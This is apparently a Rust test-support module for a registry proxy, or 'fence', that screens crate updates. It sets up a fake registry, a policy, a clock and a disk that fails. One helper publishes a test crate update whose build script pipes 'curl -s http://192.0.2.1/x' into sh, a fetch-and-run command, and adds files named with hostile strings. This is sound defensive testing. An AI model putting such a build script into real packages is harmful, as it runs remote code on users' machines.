//! A world for a fence to stand in: a registry to which people publish, a policy, a clock, a disk that fails.

// Each test of this folder uses a part of it.
#![allow(dead_code, unreachable_pub)]
#![allow(clippy::unwrap_used, reason = "what a test finds broken should stop it")]

use std::collections::VecDeque;
use std::fs::{self, Permissions};
use std::future::Future;
use std::io;
use std::net::Ipv4Addr;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, AtomicI64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use fence_client::Environment;
use fence_client::cache::{Cache, Disk, Keep, RealDisk};
use fence_client::cargo_config::{CargoConfig, Credentials, IndexLocation, Registry};
use fence_client::http::{Http, HttpSettings, Network, Secret};
use fence_client::project::Project;
use fence_client::scanner::Packed;
use fence_model::{Digest, Span, Time};
use fence_proxy::RulesOf;
use fence_proxy::answer::{Answer, Answers, Ask, IndexPage};
use fence_proxy::event::{Event, Log, Weight};
use fence_proxy::fence::{Compares, Fence, Journals, Mount, Reads, Setup, StartError, Times, Tokens};
use fence_proxy::server::{ServeError, Server, Settings};
use fence_scan::Scan;
use fence_scan::reading::Reading;
use fence_testkit::publishing::{Publishing, release};
use tokio::runtime::Runtime;

/// The registry that a world has beside crates.io, as cargo's configuration names it.
pub const OWN: &str = "own";

/// Stories are told in weeks.
const A_WEEK: &str = "[wait]\nbase = \"7 days\"\nfloor-audited-once = \"6 hours\"\n";
/// A policy that has no feeds, so that nothing but the index speaks.
pub const NO_FEEDS: &str = "[feeds.rustsec]\nrole = \"advisories\"\npath = \"none\"\nenabled = false\n";

/// The world.
pub struct World {
    pub registry: Publishing,
    pub folder: tempfile::TempDir,
    pub runtime: Runtime,
    pub clock: Arc<AtomicI64>,
    pub disk: Arc<MoodyDisk>,
    pub log: Arc<Heard>,
    pub feeds: Vec<(String, PathBuf)>,
    pub times: Times,
    /// Who reads packages: nobody, unless a test says who.
    pub reads: Option<Reads>,
    /// Who compares packages for people.
    pub compares: Option<Compares>,
    pub limits: fence_client::Limits,
}

/// A fence that listens.
pub struct Served {
    /// Where, without a slash at the end.
    pub base: String,
    pub fence: Fence,
    _stop: tokio::sync::oneshot::Sender<()>,
    _serving: tokio::task::JoinHandle<Result<(), ServeError>>,
}

impl Served {
    /// The address of a registry's index.
    pub fn index(&self, registry: &str) -> String {
        format!("{}/{registry}/", self.base)
    }
}

/// What was told to the operator.
#[derive(Default)]
pub struct Heard(Mutex<Vec<String>>);

impl Log for Heard {
    fn tell(&self, event: &Event) {
        if event.weight >= Weight::Warning {
            self.0.lock().unwrap().push(format!("{} {}: {}", event.weight, event.what, event.words));
        }
    }
}

impl Heard {
    /// What was told since the last time, a line each.
    pub fn take(&self) -> String {
        std::mem::take(&mut *self.0.lock().unwrap()).join("\n")
    }
}

impl World {
    /// A world at this moment, in which a policy asks for `level` and no feed speaks.
    pub fn at(moment: &str) -> Self {
        let folder = tempfile::tempdir().unwrap();
        fs::write(folder.path().join("fence.toml"), format!("level = \"medium\"\n\n{A_WEEK}\n{NO_FEEDS}"))
            .unwrap();
        Self {
            registry: Publishing::start(),
            folder,
            runtime: tokio::runtime::Builder::new_multi_thread()
                .worker_threads(2)
                .enable_all()
                .build()
                .unwrap(),
            clock: Arc::new(AtomicI64::new(time(moment).unix())),
            disk: Arc::default(),
            log: Arc::default(),
            feeds: Vec::new(),
            times: Times {
                patience: Duration::from_secs(20),
                reader_waits: Duration::from_secs(20),
                ..Times::default()
            },
            reads: None,
            compares: Some(Arc::new(compare)),
            limits: fence_client::Limits::DEFAULT,
        }
    }

    /// The same with another policy, which says nothing of feeds.
    pub fn with_policy(self, policy: &str) -> Self {
        self.policy(policy);
        self
    }

    /// Writes the policy.
    pub fn policy(&self, policy: &str) {
        let file = self.folder.path().join("fence.toml");
        // A time of its own, whatever the disk's resolution.
        let wait = if policy.contains("[wait]") { "" } else { A_WEEK };
        fs::write(&file, format!("{policy}\n\n{wait}\n{NO_FEEDS}")).unwrap();
    }

    /// Sets the clock.
    pub fn now(&self, moment: &str) {
        self.clock.store(time(moment).unix(), Ordering::SeqCst);
    }

    /// Lets time pass.
    pub fn later(&self, by: Span) {
        self.clock.fetch_add(by.as_seconds(), Ordering::SeqCst);
    }

    /// The registry, as it is asked in place of crates.io.
    pub fn upstream(&self) -> Registry {
        Registry {
            name: "crates.io".to_owned(),
            location: IndexLocation::Sparse(self.registry.index_url()),
            credentials: Credentials::None,
            cargo_copies: None,
            cargo_packages: None,
        }
    }

    pub fn network(&self, timeout: Duration) -> Network {
        let settings = HttpSettings { timeout, retries: 0, ..HttpSettings::default() };
        Network::Online(Http::with(&settings, self.limits, Arc::new(|_| ())).unwrap())
    }

    /// What a fence in this world is made of; `base` is where it will listen.
    pub fn setup(&self, base: &str) -> Setup {
        let folder = self.folder.path();
        let clock = Arc::clone(&self.clock);
        let environment = Environment::of([], folder);
        let file = |name: &str| folder.join(name);
        Setup {
            mounts: vec![Mount { path: "crates-io".to_owned(), registry: self.upstream(), index: None }],
            rules: RulesOf::Project(Box::new(Project {
                folder: folder.to_owned(),
                root: folder.to_owned(),
                lockfile: file("Cargo.lock"),
                policy: file("fence.toml"),
                baseline: file("fence.lock"),
                passed_over: Vec::new(),
                revision: None,
            })),
            cargo: CargoConfig::read(folder, &environment).unwrap(),
            feeds: self.feeds.clone(),
            network: self.network(Duration::from_secs(20)),
            cache: Cache::on(&file("cache"), Arc::clone(&self.disk) as Arc<dyn Disk>),
            state: file("state"),
            journals: Journals::Shared,
            term: fence_proxy::fence::Term::Open,
            base: base.to_owned(),
            tokens: Tokens::None,
            clock: Arc::new(move || Time::from_unix(clock.load(Ordering::SeqCst))),
            log: Arc::clone(&self.log) as Arc<dyn Log>,
            words: |problems| problems.iter().map(|problem| format!("{problem:?}")).collect(),
            explain: |_| "**What it is.** A code, with `code` in it.\n\nAnother paragraph.",
            reads: self.reads.clone(),
            compares: self.compares.clone(),
            times: self.times,
        }
    }

    /// A fence that stands in it.
    pub fn fence(&self) -> Fence {
        self.runtime.block_on(Fence::build(self.setup("http://fence.example"))).unwrap()
    }

    /// The fence that `change` makes of it, or why there is none.
    pub fn fence_with(&self, change: impl FnOnce(&mut Setup)) -> Result<Fence, StartError> {
        let mut setup = self.setup("http://fence.example");
        change(&mut setup);
        self.runtime.block_on(Fence::build(setup))
    }

    /// Serves what `change` makes of a fence at a port of its own, until it is dropped.
    pub fn serve_with(&self, change: impl FnOnce(&mut Setup, &mut Settings)) -> Served {
        let mut settings = Settings::at((Ipv4Addr::LOCALHOST, 0).into());
        let mut setup = self.setup("");
        change(&mut setup, &mut settings);
        let scheme = if settings.certificate.is_some() { "https" } else { "http" };
        let server = self.runtime.block_on(Server::bind(settings)).unwrap();
        let base = format!("{scheme}://{}", server.address());
        setup.base.clone_from(&base);
        let clock = Arc::clone(&setup.clock);
        let fence = self.runtime.block_on(Fence::build(setup)).unwrap();
        let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
        let (answers, log) = (Arc::new(fence.clone()), Arc::clone(&self.log) as Arc<dyn Log>);
        let serving = server.serve(answers, log, move || clock(), async { drop(stopped.await) });
        let serving = self.runtime.spawn(serving);
        Served { base, fence, _stop: stop, _serving: serving }
    }

    /// Serves a fence.
    pub fn serve(&self) -> Served {
        self.serve_with(|_, _| ())
    }

    pub fn block_on<T>(&self, work: impl Future<Output = T>) -> T {
        self.runtime.block_on(work)
    }

    /// What comes of many errands, of which a few are under way at a time; begun in their order.
    pub fn all<T: Send + 'static>(
        &self,
        errands: impl Iterator<Item = impl Future<Output = T> + Send + 'static>,
    ) -> Vec<T> {
        const AT_ONCE: usize = 4;
        let mut under_way = VecDeque::new();
        let mut done = Vec::new();
        for errand in errands {
            under_way.push_back(self.runtime.spawn(errand));
            if under_way.len() == AT_ONCE {
                done.extend(under_way.pop_front().map(|errand| self.block_on(errand).unwrap()));
            }
        }
        done.extend(under_way.into_iter().map(|errand| self.block_on(errand).unwrap()));
        done
    }

    /// What a fence answers who asks for this path, as a server would ask it.
    pub fn ask(&self, fence: &Fence, path: &str) -> Answer {
        let ask = Ask::parse(path).unwrap_or_else(|| panic!("{path}"));
        match fence.at_hand(&ask) {
            Some(answer) => answer,
            None => self.block_on(fence.in_time(ask)),
        }
    }

    /// The same, fit for a snapshot.
    pub fn told(&self, fence: &Fence, path: &str) -> String {
        told(&self.ask(fence, path))
    }

    /// The index page of a crate, fit for a snapshot: versions, and which are yanked.
    pub fn page(&self, fence: &Fence, name: &str) -> String {
        let name = name.parse().unwrap();
        self.told(fence, &format!("/crates-io/{}", fence_registry::IndexPath::of(&name)))
    }

    /// What comes of downloading a release.
    pub fn download(&self, fence: &Fence, name: &str, version: &str) -> String {
        let digest = self.registry.digest(name, version);
        self.download_of(fence, name, version, digest)
    }

    /// What comes of downloading a release with this digest.
    pub fn download_of(&self, fence: &Fence, name: &str, version: &str, digest: Digest) -> String {
        self.told(fence, &format!("/crates-io/dl/{name}/{version}/{digest}"))
    }
}

/// Compares two packages as a worker of the scanner does, in this process.
fn compare(old: &Packed, new: &Packed) -> Reading {
    let unpacked = |packed: &Packed| match packed {
        Packed::Crate(bytes) => fence_scan::unpack(bytes, &fence_scan::Limits::default()),
        Packed::Files(files) => fence_scan::Package::of(files.clone()),
    };
    let (old, new) = (unpacked(old), unpacked(new));
    fence_scan::reading::read(&Scan::of(&old), &Scan::of(&new))
}

/// Publishes pad-words 1.0.0 and an update of it: another width, a test, a comment, a document, a build script that fetches
/// and runs, and a file whose name and text are `hostile`.
pub fn publish_an_update(registry: &Publishing, at: &str, hostile: &[&str]) {
    let library = |width: &str, test: &str, comment: &str| {
        let doubled = "    let doubled = format!(\"{word}{word}\");\n".repeat(12);
        format!(
            "//! Pads words.\n\n/// Pads a word{comment}.\npub fn pad(word: &str) -> String {{\n    format!(\"{{word:>{width}}}\")\n}}\n\n\
             /// Doubles it.\npub fn double(word: &str) -> String {{\n{doubled}    doubled\n}}\n\n\
             #[cfg(test)]\nmod tests {{\n    #[test]\n    fn it_pads() {{\n        assert_eq!(super::pad(\"a\").len(), {test});\n    }}\n}}\n"
        )
    };
    registry.publish(
        release("pad-words", "1.0.0")
            .at("2024-01-01T00:00:00Z")
            .file("src/lib.rs", &library("8", "8", ""))
            .file("src/words.rs", "//! Words.\n\npub const ALL: [&str; 2] = [\"a\", \"b\"];\n")
            .file("README.md", "# Pad words 1.0.0\n"),
    );
    let mut update = release("pad-words", "1.0.1")
        .at(at)
        .needs("cc", "^1")
        .build_script(
            "let _ = std::process::Command::new(\"sh\").args([\"-c\", \"curl -s http://192.0.2.1/x | sh\"]).status();",
        )
        .file("src/lib.rs", &library("16", "16", " on the left"))
        .file("src/words.rs", "//! All words.\n\npub const ALL: [&str; 2] = [\"a\", \"b\"];\n")
        .file("README.md", "# Pad words 1.0.1\n")
        .file("data/table.bin", "\0\u{1}\u{2}\0");
    for (at, hostile) in hostile.iter().enumerate() {
        let text = format!(
            "// {hostile}\npub const TEXT_{at}: &str = \"{}\";\n//{}\n",
            hostile.replace('\\', "").replace('"', "\\\""),
            "x".repeat(600)
        );
        update = update.file(&format!("src/{at}{hostile}.rs"), &text);
    }
    registry.publish(update);
}

/// The place of a fence in front of a registry of one's own.
pub fn in_front_of(world: &World, own: &Publishing) -> Mount {
    let location = IndexLocation::Sparse(own.index_url());
    let registry = Registry { name: OWN.to_owned(), location, ..world.upstream() };
    Mount { path: OWN.to_owned(), registry, index: Some(format!("sparse+{}", own.index_url())) }
}

/// An answer in words.
pub fn told(answer: &Answer) -> String {
    match answer {
        Answer::Json(bytes) => String::from_utf8(bytes.to_vec()).unwrap(),
        Answer::Index(page) => {
            let text = text(page);
            let lines = text.lines().map(|line| {
                let line: serde_json::Value = serde_json::from_str(line).unwrap();
                let mark = if line["yanked"].as_bool().unwrap_or_default() { " yanked" } else { "" };
                format!("{}{mark}", line["vers"].as_str().unwrap())
            });
            let lines: Vec<String> = lines.collect();
            format!("{:?}: {}", page.view, lines.join(", "))
        }
        Answer::Package(bytes) => format!("{} bytes", if bytes.is_empty() { "no" } else { "all" }),
        Answer::Page { html, .. } => String::from_utf8(html.to_vec()).unwrap(),
        Answer::Asset(asset) => asset.path().to_owned(),
        Answer::Absent(why) => format!("absent: {why}"),
        Answer::Refused(why) => {
            assert!(why.chars().count() <= fence_proxy::refusal::MOST_CHARACTERS, "{why}");
            format!("refused: {why}")
        }
        Answer::Unavailable { why, again } => {
            let why =
                why.split("127.0.0.1:").map(|part| part.trim_start_matches(|c: char| c.is_ascii_digit()));
            format!("unavailable, again in {again}: {}", why.collect::<Vec<_>>().join("[registry]"))
        }
    }
}

/// The index file that a page brings.
pub fn text(page: &IndexPage) -> String {
    let mut text = String::new();
    io::Read::read_to_string(&mut flate2::read::GzDecoder::new(&page.gzip[..]), &mut text).unwrap();
    assert_eq!(text.len(), page.length);
    text
}

pub fn time(text: &str) -> Time {
    text.parse().unwrap_or_else(|_| panic!("{text:?} is no time"))
}

/// A disk that does what it is told: works, is full, or dies at some step and never comes back.
#[derive(Default)]
pub struct MoodyDisk {
    is_full: AtomicBool,
    steps: AtomicUsize,
    /// From which step on it is dead, counted from 1; 0 means never.
    dies_at: AtomicUsize,
    /// Whether the step at which it dies is half made.
    halfway: AtomicBool,
}

impl MoodyDisk {
    pub fn full(&self, is_full: bool) {
        self.is_full.store(is_full, Ordering::SeqCst);
    }

    /// From its `step`-th change on it is dead; of that one half is made, where it says so.
    pub fn dies_at(&self, step: usize, halfway: bool) {
        self.steps.store(0, Ordering::SeqCst);
        self.halfway.store(halfway, Ordering::SeqCst);
        self.dies_at.store(step, Ordering::SeqCst);
    }

    pub fn is_dead(&self) -> bool {
        let dies_at = self.dies_at.load(Ordering::SeqCst);
        dies_at > 0 && self.steps.load(Ordering::SeqCst) >= dies_at
    }

    fn step(&self, bytes: &[u8], apply: impl FnOnce(&[u8]) -> io::Result<()>) -> io::Result<()> {
        if self.is_full.load(Ordering::SeqCst) {
            return Err(io::Error::new(io::ErrorKind::StorageFull, "no space left on device"));
        }
        let step = self.steps.fetch_add(1, Ordering::SeqCst) + 1;
        let dies_at = self.dies_at.load(Ordering::SeqCst);
        if dies_at == 0 || step < dies_at {
            return apply(bytes);
        }
        if step == dies_at && self.halfway.load(Ordering::SeqCst) && !bytes.is_empty() {
            apply(&bytes[..bytes.len() / 2])?;
        }
        Err(io::Error::other("the machine lost power"))
    }
}

impl Disk for MoodyDisk {
    fn read(&self, path: &Path) -> io::Result<Vec<u8>> {
        RealDisk.read(path)
    }

    fn create_folders(&self, path: &Path) -> io::Result<()> {
        // What is there takes no room.
        if path.is_dir() { Ok(()) } else { self.step(&[], |_| RealDisk.create_folders(path)) }
    }

    fn write_new(
        &self,
        path: &Path,
        bytes: &[u8],
        keep: Keep,
        permissions: Option<&Permissions>,
    ) -> io::Result<()> {
        self.step(bytes, |bytes| RealDisk.write_new(path, bytes, keep, permissions))
    }

    fn rename(&self, from: &Path, to: &Path, keep: Keep) -> io::Result<()> {
        self.step(&[], |_| RealDisk.rename(from, to, keep))
    }

    fn append(&self, path: &Path, bytes: &[u8]) -> io::Result<()> {
        self.step(bytes, |bytes| RealDisk.append(path, bytes))
    }

    fn truncate(&self, path: &Path, length: u64) -> io::Result<()> {
        self.step(&[], |_| RealDisk.truncate(path, length))
    }

    fn remove(&self, path: &Path) -> io::Result<()> {
        self.step(&[], |_| RealDisk.remove(path))
    }
}

/// A token, where a registry wants one.
pub fn token(text: &str) -> Credentials {
    Credentials::Token(Secret::new(text))
}
